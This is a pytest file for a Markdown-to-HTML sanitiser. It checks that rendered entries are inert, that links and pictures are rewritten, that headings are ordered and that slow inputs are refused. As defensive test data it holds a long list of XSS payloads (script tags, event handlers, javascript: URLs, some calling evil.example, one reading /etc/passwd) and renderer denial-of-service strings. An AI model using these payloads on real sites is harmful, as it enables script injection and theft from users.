"""An entry's text as HTML that cannot hurt: what passes, what does not, and how it looks."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from digest.content.markdown import TextRefused
from digest.content.reading import inspect
from digest.content.safe_html import render

DEPTH = 100
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "data", "poster", "background", "srcset"}


def here(link: str) -> str | None:
    """A site with other.md, map.png and two recordings, and nothing else."""
    recordings = {"map.mp4": "../map.mp4", "map.mp3": "../map.mp3"}
    return {"other.md": "../other/", "map.png": "../map.png", **recordings}.get(link.partition("#")[0])


def html(text: str) -> str:
    return str(render(text, here, DEPTH))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements a browser would find, with their attributes."""
    found: list[tuple[str, dict[str, str | None]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    reader = Reader()
    reader.feed(html(text))
    reader.close()
    return found


def assert_inert(text: str) -> None:
    """Nothing that runs, styles, submits, embeds, or leads to anything but a web page or a mailbox."""
    for tag, attributes in elements(text):
        assert tag not in {
            "script", "style", "iframe", "object", "embed", "form", "button", "select", "textarea", "base", "meta",
            "link", "svg", "math", "template", "noscript", "frame", "frameset", "applet", "dialog", "portal", "html", "head", "body", "title",
        }  # fmt: skip
        if tag in ("video", "audio"):
            assert "controls" in attributes and attributes["preload"] == "metadata"
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"autoplay", "style", "srcdoc", "srcset", "target", "action", "formaction", "name", "is"}
            if name == "tabindex":
                assert tag in ("pre", "table") and value == "0"
            if name == "id":
                assert re.fullmatch(r"(fn(ref)?|text)-.+", value or "")
            if name in URL_ATTRIBUTES:
                scheme = re.match(r"[\s\x00-\x20]*([^/?#:]*):", value or "")
                assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
            if tag == "input":
                assert attributes.get("type") == "checkbox"
                assert "disabled" in attributes
            if name == "src" or name == "poster":
                assert not re.match(r"[a-z]+:|//", value or "", re.IGNORECASE)


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=map.png onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    '<form action="https://evil.example"><input name=q type=password><button formaction=x>go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body { display: none }</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<a href=# onclick=alert(1)>x</a>",
    '<div onmouseover="alert(1)" id="__search" class="md-header">x</div>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<video src=https://evil.example/v.mp4 autoplay><source src=x onerror=alert(1)></video>",
    "<img srcset='https://evil.example/x.png 1x' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](map.png)',
    '![x](map.png "a\\" onerror=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "# x {: onclick=alert(1) #__search style=color:red }",
    "```{.py onload=alert(1)}\nx\n```",
    '``` py" onload="alert(1)\nx\n```',
    '<img alt="<script>alert(1)</script>" src="https://a.example/x.png">',
    "<img alt='x><script>alert(1)</script>' src=https://a.example/x.png>",
    "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
    "<h1 title='<h2><img src=x onerror=alert(1)>'>x</h1>",
    '[^1"onclick=alert(1)]\n\n[^1"onclick=alert(1)]: x',
    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "- [x] <input type=text onfocus=alert(1) autofocus>",
    'www.example.com" onclick="alert(1)',
    "<a href='https://a.example' target=_top name=x is=y>x</a>",
    "<iframe src=javascript:alert(1) title='x'></iframe>",
    "<iframe src='https://a.example/\"onload=alert(1)' title='<script>alert(1)</script>'></iframe>",
    "<iframe src=//a.example title='\"><script>alert(1)</script>'><script>alert(1)</script></iframe>",
    "<iframe src=https://a.example><script>alert(1)</script>",
    "<object data=https://a.example/x.swf><embed src=https://a.example/x.swf onload=alert(1)></object>",
    "<video src=map.png autoplay onplay=alert(1) poster=javascript:alert(1)><track src=javascript:alert(1)></video>",
    "<video title='</video><script>alert(1)</script>' src=https://a.example/v.mp4></video>",
    "<video><source src=map.png><video><source src='https://a.example/x' title='\" onerror=alert(1) x=\"'></video></video>",
    "<audio src='map.png' title='\"><img src=x onerror=alert(1)>'><p>x",
    "<h2 id='\"><script>alert(1)</script>'>x</h2>\n\n[x](#\"><script>alert(1)</script>)",
    '# <b title=\'"><img src=x onerror=alert(1)>\'>x</b>\n\n[x](#x) [y](<#" onclick=alert(1) ">)',
    "<p id='text-x' id=y>x</p><a name='\" onclick=alert(1)'>y</a>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_inert(text: str) -> None:
    """No script, handler, style, frame, form, or disguised address comes through, in HTML or in Markdown."""
    assert_inert(text)
    assert "alert(1)</script>" not in html(text)


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "- ", "*", "`", '"', "'", "<", ">", "x"]), max_size=6))
def test_attacks_together_are_inert(parts: list[str]) -> None:
    """Put together in any way, each in the middle of another, they are inert still."""
    assert_inert("".join(parts))


@given(st.lists(st.sampled_from([
    "<h1>", "</h1>", "<h3 title='", "'>", "<a href='https://a.example'>", "</a>", "<img src='https://a.example/x.png'>",
    "<img alt='", '<img title="', '">', "<p>", "onerror=x ", "<!--", "-->", "&quot;", "text", "\n\n",
]), max_size=12))  # fmt: skip
def test_what_is_put_in_order_after_sanitising_stays_safe(parts: list[str]) -> None:
    """Ordering headings and turning pictures into links never makes an element or attribute out of text."""
    assert_inert("".join(parts))


def test_templates_are_text() -> None:
    """What a template engine would run is printed as it is."""
    text = "{{ config }} {% include 'x' %} {{ x.y|safe }} {# x #}"
    assert html(text) == "<p>{{ config }} {% include 'x' %} {{ x.y|safe }} {# x #}</p>\n"


def test_a_text_is_never_metadata() -> None:
    """Lines that MkDocs would take for metadata are text."""
    assert html("template: ../../x\nNote: a") == "<p>template: ../../x\nNote: a</p>\n"
    assert "template" in html("---\ntemplate: ../../x\n---\n")


# --- what the sanitiser lets through beyond its defaults, one test each


@pytest.mark.parametrize(
    ("ours", "material"),
    [("NOTE", "note"), ("TIP", "tip"), ("IMPORTANT", "info"), ("WARNING", "warning"), ("CAUTION", "danger")],
)
def test_alerts_look_like_admonitions(ours: str, material: str) -> None:
    """A GitHub alert has the classes of Material's admonition, its title too."""
    assert html(f"> [!{ours}]\n> Text.") == (
        f'<div class="admonition {material}">\n<p class="admonition-title">{ours.capitalize()}</p>\n'
        "<p>Text.</p>\n</div>\n"
    )


def test_footnotes() -> None:
    """Footnotes link there and back, by ids with their own prefix."""
    found = elements("One[^a].\n\n[^a]: A note.")
    assert ("sup", {"class": "footnote-ref"}) in found
    assert ("a", {"href": "#fn-a", "id": "fnref-a"}) in found
    assert ("section", {"class": "footnotes"}) in found
    assert ("li", {"id": "fn-a"}) in found
    assert any(attributes.get("class") == "footnote-backref" and attributes["href"] == "#fnref-a"
               for _, attributes in found)  # fmt: skip


def test_task_lists() -> None:
    """Task lists show boxes that cannot be ticked, and no other field can be made of them."""
    assert elements("- [x] a\n- [ ] b") == [
        ("ul", {}),
        ("li", {}), ("input", {"checked": "", "type": "checkbox", "disabled": "", "aria-label": "✓"}),
        ("li", {}), ("input", {"type": "checkbox", "disabled": "", "aria-label": "✓"}),
    ]  # fmt: skip
    assert elements("<input type=password name=p value=x> <input name=q>") == [("p", {})]
    assert elements("<input type=checkbox name=p onclick=x>") == [
        ("input", {"type": "checkbox", "disabled": "", "aria-label": "✓"})
    ]


def test_tables_keep_their_alignment() -> None:
    """A column's alignment stays."""
    found = elements("|a|b|c|\n|:-|-:|:-:|\n|1|2|3|")
    assert [attributes for tag, attributes in found if tag in ("th", "td")] == [
        {"class": "is-left"}, {"class": "is-right"}, {"class": "is-center"},
    ] * 2  # fmt: skip


def test_code_keeps_its_language() -> None:
    """A code block keeps the class of its language, and nothing else that is written there."""
    assert html("```c++\nx < 1\n```") == '<pre tabindex="0"><code class="language-c++">x &lt; 1\n</code></pre>\n'
    assert elements("<code class='md-header language-x'>x</code>") == [("p", {}), ("code", {})]


@pytest.mark.parametrize(
    "text",
    [
        "<div class='md-header'>x</div>",
        "<div class='admonition note'>x</div>",
        "<p class='footnotes'>x</p>",
        "<a class='md-button' href='other.md'>x</a>",
        "<p id='fn-1'>x</p>",
        "<p id='a b'>x</p>",
        "<p id=''>x</p>",
        "<span class='a'>x</span>",
        "# ?!",
    ],
)
def test_no_other_class_or_id(text: str) -> None:
    """A class that is not in the closed list, or on an element that it is not for, is dropped, and so is an id that is
    none, or that a footnote may have."""
    assert not {"class", "id"} & {name for _, attributes in elements(text) for name in attributes}


def test_ordinary_markdown() -> None:
    """Tables, lists, strikethrough, bare addresses and sound inline HTML come through."""
    assert html("~~a~~ *b* **c** `d`") == "<p><del>a</del> <em>b</em> <strong>c</strong> <code>d</code></p>\n"
    assert html("https://a.example/x?a=1&b=2") == (
        '<p><a href="https://a.example/x?a=1&amp;b=2">https://a.example/x?a=1&amp;b=2</a></p>\n'
    )
    assert html("H<sub>2</sub>O<br><kbd>x</kbd>") == "<p>H<sub>2</sub>O<br><kbd>x</kbd></p>\n"
    assert isinstance(render("x", here, DEPTH), Markup)
    assert html(" \n\t\n") == ""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**「太字」**の話", "<p><strong>「太字」</strong>の話</p>\n"),
        ("これは**強調。**です", "<p>これは<strong>強調。</strong>です</p>\n"),
        ("他说**“你好”**然后走了", "<p>他说<strong>“你好”</strong>然后走了</p>\n"),
        ("**북한(DPRK)**은", "<p><strong>북한(DPRK)</strong>은</p>\n"),
    ],
)
def test_emphasis_beside_characters_without_spaces(text: str, shown: str) -> None:
    """In scripts without spaces, emphasis that ends in punctuation is emphasis."""
    assert html(text) == shown


# --- one text never alters another


def test_reference_links_do_not_bleed() -> None:
    """Each text has its own [1] and [^1]; one that defines none has none, whatever was rendered before."""
    assert "https://one.example" in html("See [1].\n\n[1]: https://one.example\n[^1]: Note")
    assert "https://two.example" in html("See [1].\n\n[1]: https://two.example")
    assert html("See [1] and[^1].") == "<p>See [1] and[^1].</p>\n"


@pytest.mark.parametrize("text", ["<div>", "<!-- ", "<details>", "```\nx", "<table><tr><td>", "</div></section></main>",
                                  "<b><i>x", "</p></li></ul>", "<a href='other.md'>x", "<select><option>"])  # fmt: skip
def test_what_is_left_open_is_closed(text: str) -> None:
    """Every element that a text opens ends in it, and it closes none that it did not open."""
    depth = 0

    class Balance(HTMLParser):
        def handle_starttag(self, tag: str, attrs: object) -> None:
            nonlocal depth
            depth += tag not in {"br", "hr", "img", "input", "col", "wbr"}

        def handle_endtag(self, tag: str) -> None:
            nonlocal depth
            depth -= 1
            assert depth >= 0

    balance = Balance()
    balance.feed(html(text) + "<p>after</p>")
    balance.close()
    assert depth == 0
    assert html(text).count("<!--") == 0


# --- headings, links, pictures


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# A\n\n## B\n\n# C", [2, 3, 2]),
        ("### A\n\n# B\n\n###### C", [2, 2, 3]),
        ("# A\n\n#### B\n\n## C\n\n### D", [2, 3, 3, 4]),
        ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6", [2, 3, 4, 5, 6, 6]),
        ("<h1>A</h1>\n\n<h6>B</h6>", [2, 3]),
        ("<h1 title='x'>A</h1>\n\n## B", [2, 3]),
        ("<h1 lang='ko'>A</h1>", [2]),
        ("A\n=\n\nB\n-", [2, 3]),
        ("> # A\n\n- # B", [2, 2]),
    ],
)
def test_headings_begin_at_two_without_a_gap(text: str, levels: list[int]) -> None:
    """The page has the one h1; a text's headings begin at h2 and skip no level, however they are written."""
    shown = html(text)
    assert [int(level) for level in re.findall(r"<h([1-6])\b", shown)] == levels
    assert [int(level) for level in re.findall(r"</h([1-6])>", shown)] == levels


def test_links_of_this_site() -> None:
    """A link to a file leads to its page; what leads nowhere is text without an address."""
    assert html("[a](other.md)") == '<p><a href="../other/">a</a></p>\n'
    assert html("[a](#top) [b](https://b.example/) [c](mailto:c@d.example)").count("href=") == 3
    assert html("[a](nowhere.md)") == "<p><a>a</a></p>\n"
    assert "href" not in html("[a](/etc/passwd) [b](../../../x) [c](..\\x)")


def test_pictures_of_this_site() -> None:
    """A picture of this site is shown, and fetched when it is come to."""
    assert html("![A map](map.png)") == '<p><img loading="lazy" src="../map.png" alt="A map"></p>\n'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![A map](https://a.example/m.png)", '<a href="https://a.example/m.png">A map</a>'),
        ("![](https://a.example/m.png)", '<a href="https://a.example/m.png">m.png</a>'),
        ("![a](//a.example/m.png)", '<a href="//a.example/m.png">a</a>'),
        ("[![a](https://a.example/m.png)](https://b.example)", '<a href="https://b.example">a</a>'),
        ("![A map](nowhere.png)", "A map"),
        ("![a](data:image/png;base64,AA==)", "a"),
        ("![a < b & c](https://a.example/m.png)", '<a href="https://a.example/m.png">a &lt; b &amp; c</a>'),
        ("<IMG SRC='https://a.example/m.png' ALT=\"a'b\">", '<a href="https://a.example/m.png">a\'b</a>'),
    ],
)
def test_pictures_from_elsewhere_are_links(text: str, shown: str) -> None:
    """Reading a page asks nothing of another host: a picture there is a link to it, or its words."""
    assert html(text).replace("<p>", "").replace("</p>", "").strip() == shown


# --- limits

LINE = 200_000
HEAVY = {
    "brackets": "[" * 50_000,
    "pictures": "![" * 2_000,
    "nested links": "[a](" * 10_000,
    "reference brackets": "[" * 5_000 + "a" + "]" * 5_000,
    "emphasis": "*a_ " * 20_000,
    "stars": "*" * 50_000 + "a" + "*" * 50_000,
    "openers": "**x [a*b**c*](d)" * 5_000,
    "strikes": "a~~~~b" * 10_000,
    "backticks": "".join("e" + "`" * number for number in range(1, 1_500)),
    "unclosed links": "[a](<b" * 10_000,
    "unclosed comments": "</" + "<!--" * 10_000,
    "declarations": "<?" * 10_000 + "<!A " * 10_000,
    "quotations": "> " * 1_000 + "a",
    "quotations by line": "\n".join(">" * number + " a" for number in range(1, 100)),
    "lists": "".join("  " * number + "- a\n" for number in range(1_000)),
    "numbered lists": "1. " * 1_000 + "a",
    "elements": "<div>" * 20_000,
    "inline elements": "<b>" * 20_000,
    "mixed containers": "> - " * 500 + "a",
    "ampersands": "&" * LINE,
    "entities": "&lt;" * 50_000,
    "tables": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "|x\n" * 100,
    "footnotes": "".join(f"[^{number}]" for number in range(5_000)) + "\n\n[^1]: x\n",
    "footnotes in footnotes": "".join(f"[^{number}]: [^{number + 1}]\n\n" for number in range(2_000)) + "[^0]",
    "one footnote often": "[^a]" * 20_000 + "\n\n[^a]: x\n",
    "definitions": "".join(f"[{number}]: x\n" for number in range(10_000)),
    "hard breaks": "a  \n" * 20_000,
    "one line": "a" * 1_000_000,
    "spaces": " " * LINE + "a",
    "tabs": "\t" * LINE,
    "quotation marks": "“" * 40_000,
    "attributes": "<a " + "x=y " * 20_000 + ">",
    "angle brackets": "<" * LINE,
    "frames left open": "<p>\n" + "<iframe a='<iframe b=\"" * 10_000,
    "values left open": "<p>\n" + '<video src=a "' * 15_001,
    "recordings": "<p>\n" + "<video src=a><i>" * 50 + "<b>x</b>" * 20_000,
    "comments around frames": "<p>\n" + "<iframe><!--" * 10_000,
    "closing tags": "</a>" * 20_000,
    "autolinks": "www." * 20_000,
    "addresses": "a@" * 20_000 + "b",
    "headings": "# a\n" * 20_000,
    "nul": "\0" * LINE,
}


@pytest.mark.parametrize("text", HEAVY.values(), ids=HEAVY.keys())
def test_nothing_is_slow(text: str) -> None:
    """What makes renderers slow is rendered or refused in moments, with nothing but `TextRefused` raised."""
    began = process_time()
    for work in (lambda: inspect(text, DEPTH), lambda: render(text, here, DEPTH)):
        try:
            work()
        except TextRefused as refused:
            assert str(refused)
    assert process_time() - began < 20


@pytest.mark.parametrize(
    "text",
    ["> " * 101 + "a", "- " * 101 + "a", "<div>" * 101, "".join("  " * number + "- a\n" for number in range(60))],
    ids=["quotations", "items", "elements", "lists by indent"],
)
def test_depth_is_limited(text: str) -> None:
    """A text that nests deeper than the limit is refused before the sanitiser sees it."""
    with pytest.raises(TextRefused, match="nested more than 100 levels deep"):
        render(text, here, DEPTH)
    with pytest.raises(TextRefused, match="nested more than 100 levels deep"):
        inspect(text, DEPTH)


def test_depth_within_the_limit() -> None:
    """A text that nests less is rendered, however many elements follow one another."""
    assert html("> " * 40 + "a").count("<blockquote>") == 40
    assert html("*a* " * 5_000).count("<em>") == 5_000


# --- places, recordings and what is embedded


def test_headings_have_ids() -> None:
    """Headings have ids in the git host's spelling below our prefix, in Markdown and in HTML; repeated ones a number."""
    text = (
        "# Who *pays*, & `why`?\n\n## Über uns\n\n## 여객선, 출항!\n\n<h3>Über uns</h3>\n\n## Über uns-1\n\n"
        "## हिन्दी\n\n## :rocket: Go\n\n## 🚀 Go\n\n## snake_case  x[^1]\n\n[^1]: x\n"
    )
    assert re.findall(r'<h\d id="(.*?)"', html(text)) == [
        "text-who-pays--why", "text-über-uns", "text-여객선-출항", "text-über-uns-1", "text-über-uns-1-1", "text-हिन्दी",
        "text-rocket-go", "text--go", "text-snake_case--x",
    ]  # fmt: skip


def test_an_id_stands_once() -> None:
    """What an author names is named below our prefix too. Of equal ids the first stays, so that none is there twice."""
    text = "<a id='setup'></a>\n\n## Setup\n\n## Setup\n\n<a name=setup>x</a><p id=a>x</p><p id=a name=b>y</p><a id=n name=m>z</a>"
    assert re.findall(r'(?:id|name)="(.*?)"', html(text)) == ["text-setup", "text-setup-1", "text-a", "text-n"]


@pytest.mark.parametrize(
    ("fragment", "href"),
    [
        ("costs", "#text-costs"),
        ("COSTS", "#text-costs"),
        ("%63osts", "#text-costs"),
        ("user-content-costs", "#text-costs"),
        ("u%CC%88ber", "#text-über"),
        ("top", "#top"),
        (":~:text=x", "#:~:text=x"),
        ("costs:~:text=x", "#text-costs"),
        ("fn-1", "#fn-1"),
        ("gone", None),
        ("text-costs", None),
    ],
)
def test_fragments_in_the_same_text(fragment: str, href: str | None) -> None:
    """A link to a place of the same text leads to it, as written on a git host; one that leads nowhere is none."""
    found = elements(f"[x](#{fragment})\n\n# Costs\n\n## Über\n\nA[^1].\n\n[^1]: B\n")
    assert found[1][0] == "a" and found[1][1].get("href") == href


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<iframe src='https://v.example/e' title='The launch'>none</iframe>", '<a href="https://v.example/e">The launch</a>'),
        ("<iframe src='//v.example/e'></iframe>", '<a href="//v.example/e">v.example</a>'),
        ("<IFRAME SRC=https://v.example/e>", '<a href="https://v.example/e">v.example</a>'),
        ("<iframe src='other.md'></iframe>", '<a href="../other/">other.md</a>'),
        ("<embed src='map.png' alt='A map'>", '<a href="../map.png">A map</a>'),
        ("<object data='https://a.example/x.pdf'><i>a</i></object>", '<a href="https://a.example/x.pdf">a.example</a><i>a</i>'),
        ("<video src='https://a.example/v.mp4' title='It sails'>x</video>", '<a href="https://a.example/v.mp4">It sails</a>'),
        ("<audio><source src='https://a.example/v.ogg'></audio>", '<a href="https://a.example/v.ogg">a.example</a>'),
        ("<a href='other.md'><video src='https://a.example/v.mp4'></video></a>", '<a href="../other/">a.example</a>'),
        ("<iframe srcdoc=x></iframe>", ""),
        (
            "<video src='map.png' poster='https://a.example/p.png' autoplay loop><track src='map.png' kind=captions>x</video>",
            '<video controls="" preload="metadata" src="../map.png"><track src="../map.png" kind="captions"></video>',
        ),
        (
            "<audio><source src='https://a.example/v.ogg'><source src='map.png' type='audio/ogg'>x</audio>",
            '<audio controls="" preload="metadata"><source src="../map.png" type="audio/ogg"></audio>',
        ),
        ("<source src='map.png'><track src='map.png'>", ""),
    ],
)  # fmt: skip
def test_recordings_and_frames(text: str, shown: str) -> None:
    """The desk's own recordings play when a reader asks; what another host would load is a link to it."""
    assert html(text).replace("<p>", "").replace("</p>", "").strip() == shown


PLAYER = '<video controls="" preload="metadata" src="../map.png"></video>'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<video src='map.png' controls />\n\n## Two\n\nThe rest.", f'{PLAYER}\n<h2 id="text-two">Two</h2>\nThe rest.'),
        ("a <video src='map.png'/> b\n\nc", f"a {PLAYER} b\nc"),
        ("<video src='map.png'>\n\n- b\n- <video src='map.png'></video> c", f"{PLAYER}\n<ul>\n<li>b</li>\n<li>{PLAYER} c</li>\n</ul>"),
        ("<video src='map.png'>\n\nb\n\n</video>\n\nc", f"{PLAYER}\nb\n\nc"),
        ("<VIDEO>\n<source src='map.png'>\n\n*b*", '<video controls="" preload="metadata"><source src="../map.png"></video>\n<em>b</em>'),
        ("<video src='map.png'>\n  <p>No player: <a href='other.md'>x</a></p>\n</video> b", f"{PLAYER} b"),
        ("<audio src='map.png'>\n\nb", f"{PLAYER.replace('video', 'audio')}\nb"),
        ("<iframe src='//v.example/1' />\n\nb\n\n<iframe src='//v.example/2'></iframe>", '<a href="//v.example/1">v.example</a>\nb\n<a href="//v.example/2">v.example</a>'),
        ("<iframe src='//v.example/1' title='3 < 4?'></iframe>\n\n*b*", '<a href="//v.example/1">3 &lt; 4?</a>\n<em>b</em>'),
        ("<iframe srcdoc='<b>hi</b>'></iframe>\n\n*b*", "<em>b</em>"),
        ("<iframe src='//v.example/1 title='x'></iframe>\n\n*b*", '<a href="//v.example/1 title=">v.example</a>\n<em>b</em>'),
        ('<iframe src="//v.example/1" title=5">\n\n[b](other.md "d")', '<a href="//v.example/1">5</a>\n<a href="../other/" title="d">b</a>'),
        ("<iframe title='a\n\nb'>\n\nc", "&lt;iframe title='a\nb'&gt;\nc"),
        ("<noscript>\n\n*b*", "<em>b</em>"),
        ("<title>a</title>\n\n*b* <textarea/> c", "a\n<em>b</em>  c"),
        ("<!-- <iframe src=x> --> a <iframe src='//v.example/1'></iframe>", ' a <a href="//v.example/1">v.example</a>'),
        ("![A map](map.mp4) ![](map.mp3)", '<video controls="" preload="metadata" src="../map.mp4" title="A map"></video> <audio controls="" preload="metadata" src="../map.mp3"></audio>'),
        ("[![A map](map.mp4)](other.md)", '<a href="../other/">A map</a>'),
    ],
)  # fmt: skip
def test_nothing_is_lost_after_a_recording_or_a_frame(text: str, shown: str) -> None:
    """One that is not closed in its own block ends where its tag ends, whatever its attributes say."""
    assert html(text).replace("<p>", "").replace("</p>", "").strip() == shown.strip()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (":tada: and :+1:!", "🎉 and 👍!"),
        (
            ":heart::tada: a:heart::tada: :heart::tada:b :tada::no_such:",
            "❤️🎉 a:heart::tada: :heart::tada:b 🎉:no_such:",
        ),
        ("**:tada:** [x :ship:](other.md)", '<strong>🎉</strong> <a href="../other/">x 🚢</a>'),
        ("`:tada:` 10:100:1 at 12:30:45", "<code>:tada:</code> 10:100:1 at 12:30:45"),
        (":no_such_emoji: a:tada:b", ":no_such_emoji: a:tada:b"),
        ("<https://a.example/:100:>", '<a href="https://a.example/:100:">https://a.example/:100:</a>'),
    ],
)
def test_emoji(text: str, shown: str) -> None:
    """The name of an emoji is the emoji, as on a git host; not in code, in addresses, or between digits."""
    assert html(text) == f"<p>{shown}</p>\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("では、\n各地で", "では、各地で"),
        ("他说**你\n好**\n的", "他说<strong>你好</strong>的"),
        ("한국의\n日本", "한국의\n日本"),
        ("a\n日\nb", "a\n日\nb"),
        ("日本  \n中国", "日本<br>\n中国"),
        ("港だ…\n各地――\n*「海」*と“港”\n各“海”", "港だ…各地――<em>「海」</em>と“港”各“海”"),
        ("他说\n“你好**…**\n——港", "他说“你好<strong>…</strong>——港"),
        ("ABC”\n中国 한국…\n中国 a…\nb", "ABC”\n中国 한국…\n中国 a…\nb"),
    ],
)
def test_lines_of_wide_characters(text: str, shown: str) -> None:
    """A line that is wrapped between Chinese or Japanese characters gets no space there; one in code stays."""
    assert html(text) == f"<p>{shown}</p>\n"
    assert "<code>日\n本\n</code>" in html("日\n本\n\n```\n日\n本\n```\n")
